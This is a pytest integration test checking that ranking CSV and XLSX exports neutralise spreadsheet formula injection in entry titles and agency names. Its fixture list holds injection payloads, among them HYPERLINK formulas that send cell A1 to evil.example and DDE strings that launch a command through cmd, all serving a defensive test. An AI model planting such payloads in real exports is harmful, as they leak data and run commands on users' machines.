"""Titles that a spreadsheet would run as formulas, sent through the real pipeline (Kafka → reporting's
worker → the store → the web process), come out of both downloads as text that runs nothing."""
from __future__ import annotations

import csv
import io

import pytest

from tests import factories
from tests.integration.reporting import events as ev
from tests.support.xlsx import column, sheet_cells

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', '+HYPERLINK("http://evil.example/","plus")',
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1 tab", "\r=1+1 cr"]


@pytest.fixture(scope="module")
def hostile(publisher, settle):
    """A competition whose entries are titled with each formula-leading character (one agency's name too)."""
    definition = factories.competition()
    events = [ev.published(definition)]
    for index, title in enumerate(HOSTILE):
        event = ev.submitted(definition["id"], factories.uid("e-"), "73.71", "kesehatan", f"2026-03-0{index + 1}T02:00:00Z")
        event["data"]["title"] = title
        events.append(event)
    events[1]["data"]["agency"]["name"] = "=cmd|' /C calc'!A0"
    publisher.publish_all(events)
    settle()
    return definition["id"]


def test_the_csv_quotes_every_formula_leading_cell(api, hostile):
    response = api(f"/competitions/{hostile}/rankings.csv")
    assert response.status_code == 200
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert sorted(row[2] for row in table[1:]) == sorted("'" + title for title in HOSTILE)
    assert "'=cmd|' /C calc'!A0" in [row[3] for row in table[1:]]
    formula_like = [cell for row in table[1:] for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert formula_like == []
    assert [row[0] for row in table[1:]] == [str(rank) for rank in range(1, len(HOSTILE) + 1)]


def test_the_xlsx_holds_the_titles_as_strings_and_no_formula(api, hostile):
    response = api(f"/competitions/{hostile}/rankings.xlsx")
    assert response.status_code == 200
    cells = sheet_cells(response.content)
    assert [c.ref for c in cells if c.formula] == []
    titles = column(cells, "C")[1:]
    assert sorted(c.text for c in titles) == sorted(HOSTILE)
    assert {c.kind for c in titles} <= {"inlineStr", "s"}
    assert "=cmd|' /C calc'!A0" in [c.text for c in column(cells, "D")[1:]]
    ranks = column(cells, "A")[1:]
    assert {c.kind for c in ranks} == {"n"} and [c.text for c in ranks] == [str(r) for r in range(1, len(HOSTILE) + 1)]
